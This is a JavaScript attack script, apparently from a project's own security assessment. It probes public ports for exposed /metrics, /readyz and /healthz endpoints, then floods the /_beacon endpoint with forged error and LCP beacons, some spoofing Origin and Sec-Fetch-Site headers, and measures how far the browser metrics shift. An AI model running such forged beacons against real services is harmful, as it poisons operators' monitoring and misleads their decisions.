// Attack: read the operators' endpoints from the public ports, and move the shell's browser
// metrics with forged beacons. Prints what /metrics and /readyz answer on each public port, and
// how far 100 forged error beacons and 1,000 forged LCP beacons (one client, no page) move
// shell_browser_errors_total and shell_web_vital (read where the operator reads them: the
// operations listener when SHELL_OPS_URL names it, else the public port).
import { API, print, rawRequest, sample, SHELL, SHELL_OPS } from './common.mjs';

const publicAnswers = {};
for (const [name, base] of Object.entries({ shell: SHELL, 'content-api': API })) {
  for (const path of ['/metrics', '/readyz', '/healthz']) {
    const answer = await rawRequest(`${base}${path}`);
    publicAnswers[`${name} ${path}`] = `${answer.status} ${answer.body.length} bytes`;
  }
}
print('operations endpoints on the public ports', { publicAnswers });

const metrics = async () => (await rawRequest(`${SHELL_OPS}/metrics`)).body;
const errors = 'shell_browser_errors_total{page="services"}';
const lcpCount = 'shell_web_vital_count{name="LCP",page="home"}';
const lcpSum = 'shell_web_vital_sum{name="LCP",page="home"}';
const before = await metrics();
const beacon = (body, headers = {}) =>
  rawRequest(`${SHELL}/_beacon`, {
    method: 'POST',
    headers: { 'Content-Type': 'text/plain;charset=UTF-8', ...headers },
    body: JSON.stringify(body),
  });
const statuses = {};
const count = ({ status }) => (statuses[status] = (statuses[status] ?? 0) + 1);
// As a script elsewhere would send them (no Origin), then claiming to be the site's own page.
for (let n = 0; n < 50; n += 1) count(await beacon({ p: '/services', v: {}, e: 100 }));
for (let n = 0; n < 50; n += 1) count(await beacon({ p: '/services', v: {}, e: 100 }, { Origin: SHELL, 'Sec-Fetch-Site': 'same-origin' }));
for (let n = 0; n < 1000; n += 1) count(await beacon({ p: '/', v: { LCP: 120 } }, { Origin: SHELL, 'Sec-Fetch-Site': 'same-origin' }));
const after = await metrics();
print('forged beacons from one client', {
  beacons: 1100,
  statuses,
  browserErrorsAdded: sample(after, errors) - sample(before, errors),
  lcpReportsAdded: sample(after, lcpCount) - sample(before, lcpCount),
  lcpSecondsAdded: Math.round(sample(after, lcpSum) - sample(before, lcpSum)),
});
